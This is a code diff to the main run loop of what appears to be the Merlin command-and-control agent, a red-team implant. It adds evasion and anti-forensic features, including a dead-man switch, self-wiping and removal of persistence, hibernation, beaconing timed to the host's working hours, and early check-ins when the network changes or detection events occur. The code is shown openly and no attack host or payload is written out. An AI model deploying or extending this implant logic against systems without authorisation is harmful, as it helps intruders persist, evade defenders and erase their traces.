@@ -25,7 +25,8 @@ import (
 	// Standard
 	"fmt"
 	"math/rand"
-	"os"
+	"strings"
+	"sync/atomic"
 	"time"
 
 	// Merlin
@@ -33,18 +34,33 @@ import (
 
 	// Internal
 	"github.com/Ne0nd0g/merlin-agent/v2/agent"
+	"github.com/Ne0nd0g/merlin-agent/v2/cleanup"
 	"github.com/Ne0nd0g/merlin-agent/v2/cli"
 	"github.com/Ne0nd0g/merlin-agent/v2/clients"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/resolve"
 	"github.com/Ne0nd0g/merlin-agent/v2/core"
+	"github.com/Ne0nd0g/merlin-agent/v2/deadman"
+	"github.com/Ne0nd0g/merlin-agent/v2/detect"
+	"github.com/Ne0nd0g/merlin-agent/v2/netwatch"
+	"github.com/Ne0nd0g/merlin-agent/v2/reauth"
+	"github.com/Ne0nd0g/merlin-agent/v2/schedule"
 	as "github.com/Ne0nd0g/merlin-agent/v2/services/agent"
 	"github.com/Ne0nd0g/merlin-agent/v2/services/client"
 	"github.com/Ne0nd0g/merlin-agent/v2/services/message"
+	"github.com/Ne0nd0g/merlin-agent/v2/spoof"
+	"github.com/Ne0nd0g/merlin-agent/v2/wipe"
 )
 
 var agentService *as.Service
 var clientService *client.Service
 var messageService *message.Service
 
+// wake receives when the Agent should stop sleeping and check in early
+var wake = make(chan struct{}, 1)
+
+// networkChanged is true when the Agent was woken because the host's network changed
+var networkChanged atomic.Bool
+
 // Run instructs an agent to establish communications with the passed in server using the passed in client
 func Run(a agent.Agent, c clients.Client) {
 	// Set up the Agent service and add the Agent to the repository through the service
@@ -61,13 +77,31 @@ func Run(a agent.Agent, c clients.Client) {
 	cli.Message(cli.NOTE, fmt.Sprintf("Agent version: %s", core.Version))
 	cli.Message(cli.NOTE, fmt.Sprintf("Agent build: %s", core.Build))
 
+	// Wake from sleep early when the network changes or there are detection events to report
+	go notify()
+
 	for {
 		a = agentService.Get()
 		c = clientService.Get()
 		// Verify the agent's kill date hasn't been exceeded
 		if (a.KillDate() != 0) && (time.Now().Unix() >= a.KillDate()) {
 			cli.Message(cli.WARN, fmt.Sprintf("agent kill date has been exceeded: %s, quitting...", time.Unix(a.KillDate(), 0).UTC().Format(time.RFC3339)))
-			os.Exit(0)
+			if wipe.Enabled() {
+				for _, err := range wipe.Wipe() {
+					cli.Message(cli.WARN, err.Error())
+				}
+			}
+			cleanup.Exit()
+		}
+		// Take the dead-man switch action if the Agent hasn't reached the server within the check in contract window
+		if deadman.Expired(a.StatusCheckIn()) {
+			deadmanSwitch()
+			continue
+		}
+		// Establish a new session secret with a fresh key exchange when the re-authentication policy is due
+		if a.Authenticated() && reauth.Due() {
+			reauthenticate()
+			a = agentService.Get()
 		}
 		// Check in
 		if a.Authenticated() {
@@ -75,10 +109,18 @@ func Run(a agent.Agent, c clients.Client) {
 			if a.Wait() >= 0 {
 				cli.Message(cli.NOTE, "Checking in...")
 			}
+			// The Agent removed itself during an earlier check in and exits once this one reports it
+			exiting := wipe.Exiting()
 			checkIn()
+			a = agentService.Get()
+			if exiting && a.Failed() == 0 {
+				cli.Message(cli.NOTE, "The agent removed itself and reported it, quitting...")
+				cleanup.Exit()
+			}
 		} else {
 			err := clientService.Initial()
 			if err != nil {
+				detect.Reset(err)
 				agentService.IncrementFailed()
 				a = agentService.Get()
 				cli.Message(cli.WARN, err.Error())
@@ -92,6 +134,11 @@ func Run(a agent.Agent, c clients.Client) {
 				cli.Message(cli.SUCCESS, "Agent authentication successful")
 				agentService.SetAuthenticated(true)
 				agentService.SetInitialCheckIn(time.Now().UTC())
+				reauth.Reset()
+				// Derive the working hours from the host's locale and timezone and report them to the operator to confirm
+				if schedule.Pending() {
+					messageService.JobService.AddResult(a.ID(), schedule.Detect(), "")
+				}
 				// If the Agent is synchronous, start a listener in a go routine to receive upstream messages anytime
 				if c.Synchronous() {
 					go listen()
@@ -112,9 +159,14 @@ func Run(a agent.Agent, c clients.Client) {
 
 		// Determine if the max number of failed checkins has been reached
 		if a.Failed() >= a.MaxRetry() && a.MaxRetry() != 0 {
-			cli.Message(cli.WARN, fmt.Sprintf("maximum number of failed checkin attempts reached: %d, quitting...", a.MaxRetry()))
-			os.Exit(0)
+			selfDestruct()
 		}
+		// Hibernate without checking in at all; jobs that are already running continue locally
+		if time.Now().Before(a.Hibernate()) {
+			hibernate()
+			continue
+		}
+
 		if a.Wait() >= 0 {
 			// Sleep
 			var sleepTime time.Duration
@@ -123,12 +175,151 @@ func Run(a agent.Agent, c clients.Client) {
 			} else {
 				sleepTime = a.Wait()
 			}
+			// Outside the working hours, sleep until the next working window starts
+			sleepTime = schedule.Sleep(time.Now(), sleepTime)
+			// Don't check in again after the kill date, wake up when it is reached instead
+			if a.KillDate() != 0 && time.Until(time.Unix(a.KillDate(), 0)) < sleepTime {
+				sleepTime = time.Until(time.Unix(a.KillDate(), 0))
+			}
 			cli.Message(cli.NOTE, fmt.Sprintf("Sleeping for %s at %s", sleepTime.String(), time.Now().UTC().Format(time.RFC3339)))
-			time.Sleep(sleepTime)
+			if spoof.Sleep(sleepTime, wake) {
+				if networkChanged.Swap(false) {
+					// Don't wait out the sleep, or a string of failed check ins, when the host moved to a different network
+					cli.Message(cli.NOTE, "Network change detected, refreshing the client and checking in early")
+					err := clientService.Refresh()
+					if err != nil {
+						cli.Message(cli.WARN, fmt.Sprintf("there was an error refreshing the client after a network change: %s", err))
+					}
+				} else if wipe.Exiting() {
+					cli.Message(cli.NOTE, "The agent removed itself, checking in early to report it")
+				} else {
+					cli.Message(cli.NOTE, "Detection events are waiting to be reported, checking in early")
+				}
+			}
+		}
+	}
+}
+
+// notify wakes the Agent when the host's network changes or it removed itself, and queues detection events and changes to
+// the resolved C2 addresses as results before waking the Agent so they are reported immediately
+func notify() {
+	for {
+		select {
+		case <-netwatch.Changed():
+			networkChanged.Store(true)
+		case e := <-detect.Events():
+			a := agentService.Get()
+			messageService.JobService.AddResult(a.ID(), e.String(), "")
+		case c := <-resolve.Changes():
+			a := agentService.Get()
+			messageService.JobService.AddResult(a.ID(), c.String(), "")
+		case <-wipe.Exits():
+			// The Agent removed itself and checks in right away to report it
+		}
+		select {
+		case wake <- struct{}{}:
+		default:
 		}
 	}
 }
 
+// selfDestruct cleans up and quits running because the maximum number of consecutive failed check ins, counted across
+// every transport and address the Agent tried, was reached so that the Agent doesn't beacon forever to burned infrastructure
+func selfDestruct() {
+	a := agentService.Get()
+	cli.Message(cli.WARN, fmt.Sprintf("maximum number of failed checkin attempts reached: %d, quitting...", a.MaxRetry()))
+	if wipe.Retry() {
+		for _, err := range wipe.Wipe() {
+			cli.Message(cli.WARN, err.Error())
+		}
+	}
+	cleanup.Exit()
+}
+
+// deadmanSwitch takes the check in contract's action because the Agent hasn't reached the server within the window
+func deadmanSwitch() {
+	window, action := deadman.Contract()
+	cli.Message(cli.WARN, fmt.Sprintf("the agent has not reached the server in %s, taking the dead-man switch action: %s", window, action))
+	switch action.Name {
+	case deadman.DORMANT:
+		d, err := time.ParseDuration(action.Value)
+		if err != nil {
+			cli.Message(cli.WARN, fmt.Sprintf("there was an error parsing the dead-man switch dormant duration: %s", err))
+			break
+		}
+		// Don't try to send pending results first, the server can't be reached
+		agentService.SetHibernate(time.Now().Add(d))
+		dormant()
+	case deadman.TRANSPORT:
+		err := clientService.Connect(action.Value)
+		if err != nil {
+			cli.Message(cli.WARN, fmt.Sprintf("there was an error switching the client to %s: %s", action.Value, err))
+			break
+		}
+		// The new transport requires authenticating again
+		agentService.SetAuthenticated(false)
+	case deadman.UNINSTALL:
+		var artifacts []string
+		if action.Value != "" {
+			artifacts = strings.Split(action.Value, ",")
+		}
+		removed, errs := wipe.Persistence(artifacts)
+		errs = append(errs, wipe.Wipe()...)
+		if len(removed) > 0 {
+			cli.Message(cli.NOTE, fmt.Sprintf("removed the persistence artifacts: %s", strings.Join(removed, ", ")))
+		}
+		for _, err := range errs {
+			cli.Message(cli.WARN, err.Error())
+		}
+		cleanup.Exit()
+	default:
+		cleanup.Exit()
+	}
+	// Give the Agent a full window to reach the server before the action is taken again
+	deadman.Rearm()
+}
+
+// hibernate sends any pending results, including the hibernate command's response, and then stops all communication
+// until the hibernation ends or the kill date is reached
+func hibernate() {
+	a := agentService.Get()
+	// Agents that don't sleep already sent the response while blocking for messages to send
+	if a.Authenticated() && a.Wait() >= 0 {
+		checkIn()
+	}
+	dormant()
+}
+
+// dormant stops all communication until the hibernation ends or the kill date is reached
+func dormant() {
+	a := agentService.Get()
+	wake := a.Hibernate()
+	if a.KillDate() != 0 && time.Unix(a.KillDate(), 0).Before(wake) {
+		wake = time.Unix(a.KillDate(), 0)
+	}
+	cli.Message(cli.NOTE, fmt.Sprintf("Hibernating until %s at %s", wake.UTC().Format(time.RFC3339), time.Now().UTC().Format(time.RFC3339)))
+	time.Sleep(time.Until(wake))
+	if !time.Now().Before(a.Hibernate()) {
+		agentService.SetHibernate(time.Time{})
+		cli.Message(cli.NOTE, fmt.Sprintf("Resuming check ins after hibernating at %s", time.Now().UTC().Format(time.RFC3339)))
+	}
+}
+
+// reauthenticate proactively runs the client's authentication again so the session secret is replaced with one from a
+// fresh key exchange. If it fails, the Agent is unauthenticated and falls back to its initial authentication
+func reauthenticate() {
+	a := agentService.Get()
+	cli.Message(cli.NOTE, fmt.Sprintf("Re-authenticating to replace the session secret at %s", time.Now().UTC().Format(time.RFC3339)))
+	err := clientService.Authenticate(reauth.Message(a.ID()))
+	reauth.Reset()
+	if err != nil {
+		cli.Message(cli.WARN, fmt.Sprintf("there was an error re-authenticating: %s", err))
+		agentService.SetAuthenticated(false)
+		return
+	}
+	cli.Message(cli.SUCCESS, "Agent re-authentication successful")
+}
+
 // checkIn is the function that agent runs at every sleep/skew interval to check in with the server for jobs
 func checkIn() {
 	cli.Message(cli.DEBUG, "run/run.checkIn(): entering into function...")
@@ -150,13 +341,13 @@ func checkIn() {
 	bases, err := c.Send(msg)
 
 	if err != nil {
+		detect.Reset(err)
 		agentService.IncrementFailed()
 		a := agentService.Get()
 		cli.Message(cli.WARN, err.Error())
 		// Determine if the max number of failed checkins has been reached
 		if a.Failed() >= a.MaxRetry() && a.MaxRetry() != 0 {
-			cli.Message(cli.WARN, fmt.Sprintf("maximum number of failed checkin attempts reached: %d, quitting...", a.MaxRetry()))
-			os.Exit(0)
+			selfDestruct()
 		} else {
 			cli.Message(cli.NOTE, fmt.Sprintf("%d out of %d total failed checkins", a.Failed(), a.MaxRetry()))
 		}
@@ -182,6 +373,7 @@ func checkIn() {
 
 	agentService.SetFailedCheckIn(0)
 	agentService.SetStatusCheckIn(time.Now().UTC())
+	reauth.Count()
 
 	// Handle return messages from the Merlin server or the parent Agent
 	for _, base := range bases {
@@ -196,8 +388,7 @@ func checkIn() {
 			// Determine if the max number of failed checkins has been reached
 			a := agentService.Get()
 			if a.Failed() >= a.MaxRetry() && a.MaxRetry() != 0 {
-				cli.Message(cli.WARN, fmt.Sprintf("maximum number of failed checkin attempts reached: %d, quitting...", a.MaxRetry()))
-				os.Exit(0)
+				selfDestruct()
 			} else {
 				cli.Message(cli.NOTE, fmt.Sprintf("%d out of %d total failed checkins", a.Failed(), a.MaxRetry()))
 			}
@@ -218,13 +409,13 @@ func listen() {
 			cli.Message(cli.WARN, fmt.Sprintf("run.listen(): there was an error listening: %s", err))
 			// Determine if the max number of failed checkins has been reached
 			if a.Failed() >= a.MaxRetry() && a.MaxRetry() != 0 {
-				cli.Message(cli.WARN, fmt.Sprintf("maximum number of failed checkin attempts reached: %d, quitting...", a.MaxRetry()))
-				os.Exit(0)
+				selfDestruct()
 			} else {
 				cli.Message(cli.NOTE, fmt.Sprintf("%d out of %d total failed checkins", a.Failed(), a.MaxRetry()))
 			}
 		} else {
 			agentService.SetFailedCheckIn(0)
+			agentService.SetStatusCheckIn(time.Now().UTC())
 			if len(msgs) > 0 {
 				for _, msg := range msgs {
 					err = messageService.Handle(msg)
@@ -234,8 +425,7 @@ func listen() {
 						// Determine if the max number of failed checkins has been reached
 						a := agentService.Get()
 						if a.Failed() >= a.MaxRetry() && a.MaxRetry() != 0 {
-							cli.Message(cli.WARN, fmt.Sprintf("maximum number of failed checkin attempts reached: %d, quitting...", a.MaxRetry()))
-							os.Exit(0)
+							selfDestruct()
 						} else {
 							cli.Message(cli.NOTE, fmt.Sprintf("%d out of %d total failed checkins", a.Failed(), a.MaxRetry()))
 						}